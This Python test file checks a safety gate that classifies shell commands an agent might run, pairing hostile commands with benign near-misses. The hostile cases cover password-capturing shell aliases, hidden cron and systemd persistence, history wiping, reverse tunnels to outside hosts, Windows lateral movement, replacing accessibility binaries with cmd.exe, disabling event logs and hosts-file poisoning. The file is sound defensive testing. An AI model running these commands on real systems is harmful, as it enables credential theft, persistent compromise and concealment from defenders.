"""Shell actions that are hostile by what they do in their context: a password prompt shadowed from a startup
file, a scheduled or device-triggered entry whose program hides, history both cleared and stopped, reverse
tunnels, lateral movement on Windows, accessibility programs taken over, programs run from a data stream,
signed setup programs fed a staged file, a root certificate trusted from a staging folder, event logs switched
off by configuration and personal folders deleted on Windows. Each class has triggers and near-misses that must
keep asking (or pass)."""

from __future__ import annotations

import pytest

from gate import SafetyGate, default_policy
from gate.model import Assessment, action_from_dict

_GATE = SafetyGate(default_policy())


def shell(command: str) -> Assessment:
    return _GATE.assess(action_from_dict({"type": "shell", "command": command}))


def _rules(command: str) -> set[str]:
    return set(shell(command).rules)


# -- startup files that shadow a program asking for a password ---------------------------------------------

@pytest.mark.parametrize("command", [
    "echo \"alias sudo='$HOME/.cache/.fonts/sudo'\" >> ~/.bashrc",
    "printf 'alias ssh=/var/tmp/ssh-wrap\\n' >> ~/.zshrc",
    "echo 'function su { read -s p; echo $p >> /tmp/.p; command su \"$@\"; }' >> ~/.bash_profile",
    "echo 'passwd() { /usr/bin/passwd \"$@\"; }' | tee -a ~/.profile",
])
def test_a_startup_line_that_shadows_a_password_program_blocks(command: str) -> None:
    assert "block.shell.credential-dump" in _rules(command), command


@pytest.mark.parametrize("command", [
    "echo \"alias sudo='sudo '\" >> ~/.bashrc",  # lets aliases expand after sudo: the same program
    "echo \"alias ssh='ssh -o ServerAliveInterval=30'\" >> ~/.bashrc",
    "echo \"alias deploy='./deploy.sh prod'\" >> ~/.zshrc",
])
def test_a_startup_alias_of_the_same_program_or_another_name_only_asks(command: str) -> None:
    a = shell(command)
    assert a.decision.value == "confirm" and "block.shell.credential-dump" not in a.rules, command


# -- scheduled and device-triggered entries whose program hides ------------------------------------------

@pytest.mark.parametrize("command", [
    "echo 'SUBSYSTEM==\"net\", RUN+=\"/dev/shm/.n/up\"' | sudo tee /etc/udev/rules.d/80-net.rules",
    "echo '@reboot root /tmp/.cache-x/agent' | sudo tee -a /etc/cron.d/maint",
    "printf '[Service]\\nExecStart=/var/tmp/.svc/worker\\n' > ~/.config/systemd/user/worker.service",
    "echo '<string>/Users/me/.hidden-tool/run</string>' > ~/Library/LaunchAgents/com.x.plist",
    "cat <<'EOF' | sudo tee /etc/systemd/system/sync.service\n[Service]\nExecStart=/dev/shm/.s/sync\nEOF",
    "sudo tee /etc/systemd/system/mon.service >/dev/null <<EOF\n[Service]\nExecStart=/tmp/mon/bin\nEOF",
])
def test_an_entry_that_runs_a_hidden_payload_later_blocks(command: str) -> None:
    assert "block.shell.malicious-persistence" in _rules(command), command


@pytest.mark.parametrize("command", [
    "echo 'SUBSYSTEM==\"usb\", RUN+=\"/usr/local/bin/usb-notify\"' | sudo tee /etc/udev/rules.d/90-u.rules",
    "echo '0 3 * * * /home/me/.local/bin/backup --quiet' | sudo tee -a /etc/cron.d/backup",
    "cat <<'EOF' | sudo tee /etc/systemd/system/api.service\n[Service]\nExecStart=/opt/api/bin/api\nEOF",
])
def test_an_entry_that_runs_an_installed_program_only_asks(command: str) -> None:
    a = shell(command)
    assert a.decision.value == "confirm" and "block.shell.malicious-persistence" not in a.rules, command


# -- history cleared and stopped -------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "history -c; unset HISTFILE",
    "export HISTSIZE=0 && history -c",
    "set +o history; rm -f ~/.zsh_history",
    "unset HISTFILE HISTSIZE; cat /dev/null > ~/.bash_history",
    "ln -sf /dev/null ~/.bash_history",  # emptied, and every later line thrown away
    "export HISTIGNORE='*'; history -c",
    "Set-PSReadLineOption -HistorySaveStyle SaveNothing; Remove-Item (Get-PSReadLineOption).HistorySavePath",
    # cleared in both places it is kept, the shell's memory and its file: nothing of the session is left
    "history -c && echo > ~/.bash_history",
    "history -c && rm -f ~/.zsh_history",
])
def test_history_cleared_and_stopped_together_blocks(command: str) -> None:
    assert "block.shell.anti-forensics" in _rules(command), command


@pytest.mark.parametrize("command", [
    "history -c",
    "export HISTFILESIZE=0",
    "rm ~/.bash_history",  # one step of tidying: it asks
    "history | tail -20",
])
def test_one_history_step_or_only_clearing_does_not_block(command: str) -> None:
    assert "block.shell.anti-forensics" not in _rules(command), command


# -- reverse tunnels ---------------------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "ssh -N -R 9000:172.16.4.10:445 ops@198.51.100.77",
    "ssh -fN -R 2200:localhost:22 me@relay.example.net",  # this machine's login port on another host
    "ssh -N -D 9050 svc@203.0.113.90",
    "ssh -fNR 6000:10.9.0.4:6000 op@198.51.100.61",  # switches bundled with -R
    "ssh -NfD 1081 op@198.51.100.61",
    "ssh -N -R 9443:192.168.40.12:443 op@relay.example.org",  # an internal machine's service, carried out
    "./chisel_linux_amd64 client 198.51.100.3:9001 R:socks",
    "./agent -connect 203.0.113.12:11601 -ignore-cert",
    "revsocks -connect 198.51.100.8:8443 -pass x",
    "gost -L rtcp://:2222/192.168.10.5:22 -F relay+tls://203.0.113.40:443",
])
def test_a_tunnel_that_puts_this_network_on_another_machine_blocks(command: str) -> None:
    assert "block.shell.remote-access" in _rules(command), command


@pytest.mark.parametrize("command", [
    "ssh -L 5432:db.internal:5432 bastion.example.com",
    "ssh -R 8080:localhost:3000 serveo.net",
    "ssh -D 1080 me@jump.example.com",
    "ssh -fNL 8443:localhost:443 me@198.51.100.61",
    "ngrok http 3000",
    "cloudflared tunnel --url http://localhost:8000",
    "chisel server --port 9001 --reverse",
])
def test_forward_tunnels_and_dev_server_shares_do_not_block(command: str) -> None:
    assert shell(command).decision.value in ("allow", "confirm"), command


# -- Windows: lateral movement -----------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    r'sc \\FS02 create svchelper binPath= "C:\ProgramData\svc.exe" start= auto',
    r'wmic /node:"10.2.0.15" process call create "powershell -nop -c whoami"',
    r"schtasks /create /s WS-114 /ru SYSTEM /tn upd /tr C:\Windows\Temp\a.exe /sc onstart",
    "Invoke-Command -ComputerName DC01,DC02 -ScriptBlock { Get-Process }",
    r'Invoke-CimMethod -ComputerName app7 -ClassName Win32_Process -MethodName Create -Arguments @{CommandLine="x"}',
    r"psexec64 \\10.0.5.5 -accepteula -c C:\Users\Public\svc.exe",
    r"at \\fs03 02:00 C:\ProgramData\job.cmd",
])
def test_running_a_program_on_another_machine_blocks(command: str) -> None:
    assert "block.shell.remote-access" in _rules(command), command


@pytest.mark.parametrize("command", [
    r"sc \\FS02 query spooler",
    "wmic /node:10.2.0.15 os get caption",
    "schtasks /query /s WS-114",
    "Invoke-Command -ScriptBlock { Get-Date }",
    r"PsExec.exe \\srv01 ipconfig",
])
def test_querying_another_machine_or_running_locally_does_not_block(command: str) -> None:
    assert "block.shell.remote-access" not in _rules(command), command


# -- Windows: accessibility programs of the logon screen ---------------------------------------------------

@pytest.mark.parametrize("command", [
    r"takeown /f C:\Windows\System32\osk.exe",
    r"icacls C:\Windows\System32\magnify.exe /grant Everyone:F",
    r"copy /y C:\Windows\System32\cmd.exe C:\Windows\System32\DisplaySwitch.exe",
    r"Copy-Item C:\Windows\System32\cmd.exe -Destination C:\Windows\System32\Narrator.exe -Force",
    r"ren C:\Windows\System32\AtBroker.exe AtBroker.exe.old",  # moved away, to put another in its place
])
def test_taking_over_an_accessibility_program_blocks(command: str) -> None:
    assert "block.shell.system-file-tamper" in _rules(command), command


@pytest.mark.parametrize("command", [
    r"icacls C:\Windows\System32\sethc.exe",  # prints its permissions
    r"takeown /f C:\Users\dev\repo\locked.log",
    r"copy C:\Windows\System32\osk.exe C:\Users\dev\backup\osk.exe.bak",
])
def test_reading_or_copying_an_accessibility_program_elsewhere_does_not_block(command: str) -> None:
    assert "block.shell.system-file-tamper" not in _rules(command), command


# -- Windows: programs run from a file's data stream -------------------------------------------------------

@pytest.mark.parametrize("command", [
    r'wmic process call create "C:\ProgramData\notes.log:svc.exe"',
    r"start C:\Users\Public\desktop.ini:tool.exe",
    r"wscript C:\Temp\report.txt:run.vbs",
])
def test_running_a_program_from_a_data_stream_blocks(command: str) -> None:
    assert "block.shell.defense-evasion" in _rules(command), command


def test_a_program_run_by_its_plain_path_is_not_a_data_stream() -> None:
    assert "block.shell.defense-evasion" not in _rules(r'wmic process call create "notepad.exe C:\Users\me\a.txt"')


# -- Windows: signed setup programs fed a staged file ------------------------------------------------------

@pytest.mark.parametrize("command", [
    r"cmstp /au /s %TEMP%\vpn.inf",
    r"msiexec /qn /i C:\Users\Public\update.msi",
    r"odbcconf /s /a {REGSVR C:\ProgramData\drv.dll}",
    r"InstallUtil.exe /logfile= /LogToConsole=false /U %APPDATA%\helper.dll",
    r"regsvcs C:\Users\me\Downloads\com.dll",
    r"mavinject 3312 /INJECTRUNNING C:\Users\Public\hook.dll",
    r"control C:\ProgramData\applet.cpl",
])
def test_a_setup_program_running_a_staged_file_blocks(command: str) -> None:
    assert "block.shell.loader-hook" in _rules(command), command


@pytest.mark.parametrize("command", [
    r"msiexec /i C:\Installers\tool.msi",
    r"regasm bin\Release\Interop.dll /tlb",
    r"cmstp /s .\profiles\office-vpn.inf",
    "msbuild Service.sln /t:Rebuild",
    "control printers",
])
def test_a_setup_program_on_the_projects_own_file_does_not_block(command: str) -> None:
    assert "block.shell.loader-hook" not in _rules(command), command


# -- trusting a root certificate from a staging folder or a download --------------------------------------

@pytest.mark.parametrize("command", [
    r"certutil -addstore AuthRoot %TEMP%\root.cer",
    r"certutil.exe -f -addstore root C:\Users\Public\Downloads\proxy.crt",
    r"Import-Certificate -FilePath $env:TEMP\ca.cer -CertStoreLocation Cert:\CurrentUser\Root",
])
def test_a_staged_certificate_made_a_trusted_root_blocks(command: str) -> None:
    assert "block.shell.defense-evasion" in _rules(command), command


@pytest.mark.parametrize("command", [
    r"certutil -addstore Root .\pki\company-root.cer",
    r"Import-Certificate -FilePath C:\Users\Public\sign.cer -CertStoreLocation Cert:\LocalMachine\My",
    r"certutil -store Root",
])
def test_a_project_certificate_or_a_personal_store_does_not_block(command: str) -> None:
    assert "block.shell.defense-evasion" not in _rules(command), command


# -- the event log switched off by its configuration -------------------------------------------------------

@pytest.mark.parametrize("command", [
    "sc config EventLog start= disabled",
    "wevtutil sl Microsoft-Windows-Sysmon/Operational /e:false",
    "wevtutil set-log Security /enabled:false",
])
def test_the_event_log_switched_off_blocks(command: str) -> None:
    assert "block.shell.defense-evasion" in _rules(command), command


@pytest.mark.parametrize("command", [
    "sc config wuauserv start= disabled",
    "wevtutil sl Application /ms:4194304",
    "wevtutil qe Security /c:5",
])
def test_other_services_and_log_sizes_do_not_block(command: str) -> None:
    assert "block.shell.defense-evasion" not in _rules(command), command


# -- everyday cmdlets are known -----------------------------------------------------------------------------

@pytest.mark.parametrize("command", [
    "Set-Clipboard -Value 'release 1.4 tagged'", "Get-Clipboard", "Get-Date -Format o", "Write-Host done",
    "Select-String -Path .\\logs\\*.log -Pattern timeout", "Get-ChildItem | Measure-Object",
    "Get-Process | Format-Table Name, Id", "Get-Service | ConvertTo-Json", "Test-Path .\\out",
    "Join-Path $PWD build", "Get-Location", "Set-Location .\\src",
])
def test_everyday_cmdlets_pass(command: str) -> None:
    assert shell(command).decision.value == "allow", command


# -- Windows personal folders deleted whole -----------------------------------------------------------------

@pytest.mark.parametrize("command", [
    r"del /s /q C:\Users\ana\Pictures",
    r"rd /s /q %USERPROFILE%\Documents",
    r"rmdir /s /q C:\Users\ana\Desktop",
    r"Remove-Item -Recurse -Force $env:USERPROFILE\Desktop",
])
def test_deleting_a_windows_personal_folder_blocks(command: str) -> None:
    assert "block.shell.recursive-delete-root" in _rules(command), command


@pytest.mark.parametrize("command", [
    r"del /q C:\Users\ana\Documents\draft-old.txt",
    r"rd /s /q %USERPROFILE%\Documents\scratch-build",
])
def test_deleting_inside_a_personal_folder_only_asks(command: str) -> None:
    a = shell(command)
    assert a.decision.value == "confirm" and "block.shell.recursive-delete-root" not in a.rules, command


# -- Windows system files written by a content cmdlet -------------------------------------------------------

@pytest.mark.parametrize("command", [
    r'Add-Content -Path C:\Windows\System32\drivers\etc\hosts -Value "203.0.113.9 login.example.com"',
    r"Set-Content $env:windir\System32\drivers\etc\hosts ''",
    r"Out-File -FilePath C:\Windows\System32\Tasks\job.xml -InputObject $x",
])
def test_a_content_cmdlet_writing_a_windows_system_file_blocks(command: str) -> None:
    assert "block.shell.system-file-tamper" in _rules(command), command


@pytest.mark.parametrize("command", [
    r"Set-Content -Path .\settings.json -Value '{}'",
    r"Get-Date | Out-File -FilePath C:\Users\me\run.log -Append",
])
def test_a_content_cmdlet_writing_a_project_or_user_file_does_not_block(command: str) -> None:
    assert "block.shell.system-file-tamper" not in _rules(command), command
